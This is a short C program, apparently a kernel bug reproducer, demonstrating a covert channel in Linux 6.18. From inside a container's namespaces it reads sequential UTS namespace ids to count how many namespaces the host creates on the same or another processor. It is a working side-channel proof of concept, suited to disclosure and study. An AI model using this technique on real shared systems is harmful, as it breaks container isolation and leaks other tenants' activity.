/*
 * A covert channel of Linux 6.18: from inside a container, how many namespaces are made outside on the same processor.
 *
 *     cc -o repro repro.c && ./repro          (root; two processors; a second)
 *
 * A child in user, PID, UTS, IPC and network namespaces of its own unshares its UTS namespace and reads the id of the
 * new one (ioctl NS_GET_ID), again and again; in between its parent outside makes 0, 3 or 10 UTS namespaces in one of
 * its own, on the same processor or on another one. Each line says where, how many the parent made, and by how much
 * the child's next id is larger: the least of 20 tries, for others may make namespaces too.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/wait.h>
#include <unistd.h>

static int up[2], down[2], processors[2];
static char stack[65536];

static void die(const char *what)
{
	perror(what);
	_exit(1);
}

static void run_on(int processor)
{
	cpu_set_t set;
	CPU_ZERO(&set);
	CPU_SET(processor, &set);
	if (sched_setaffinity(0, sizeof set, &set))
		die("sched_setaffinity");
}

/* A new UTS namespace, and its number. */
static uint64_t next_id(void)
{
	uint64_t id = 0;
	if (unshare(CLONE_NEWUTS))
		die("unshare");
	int fd = open("/proc/thread-self/ns/uts", O_RDONLY);
	if (fd < 0 || ioctl(fd, _IOR(0xb7, 13, uint64_t), &id))
		die("NS_GET_ID");
	close(fd);
	return id;
}

static int inside(void *processor)
{
	char go;
	close(down[1]);
	run_on(*(int *)processor);
	while (read(down[0], &go, 1) == 1) {
		uint64_t id = next_id();
		if (write(up[1], &id, sizeof id) != sizeof id)
			die("write");
	}
	return 0;
}

static uint64_t ask(void)
{
	uint64_t id;
	if (write(down[1], "x", 1) != 1 || read(up[0], &id, sizeof id) != sizeof id)
		die("ask");
	return id;
}

static void measure(const char *where, int made)
{
	uint64_t least = UINT64_MAX;
	for (int tries = 0; tries < 20; tries++) {
		uint64_t before = ask();
		for (int i = 0; i < made; i++)
			if (unshare(CLONE_NEWUTS))
				die("unshare");
		uint64_t more = ask() - before;
		if (more < least)
			least = more;
	}
	printf("%s %d %lu\n", where, made, (unsigned long)least);
}

int main(void)
{
	const char *where[] = { "same", "other" };
	const int made[] = { 0, 3, 10 };
	cpu_set_t set;
	int found = 0;

	alarm(20);
	if (sched_getaffinity(0, sizeof set, &set))
		die("sched_getaffinity");
	for (int i = 0; i < CPU_SETSIZE && found < 2; i++)
		if (CPU_ISSET(i, &set))
			processors[found++] = i;
	run_on(processors[0]);
	if (unshare(CLONE_NEWUTS))
		die("unshare");
	for (int other = 0; other < found; other++) {
		if (pipe(up) || pipe(down))
			die("pipe");
		int pid = clone(inside, stack + sizeof stack,
				CLONE_NEWUSER | CLONE_NEWPID | CLONE_NEWUTS | CLONE_NEWIPC | CLONE_NEWNET | SIGCHLD,
				&processors[other]);
		if (pid < 0)
			die("clone");
		close(down[0]);
		for (int i = 0; i < 3; i++)
			measure(where[other], made[i]);
		close(down[1]);
		waitpid(pid, NULL, 0);
	}
	return 0;
}
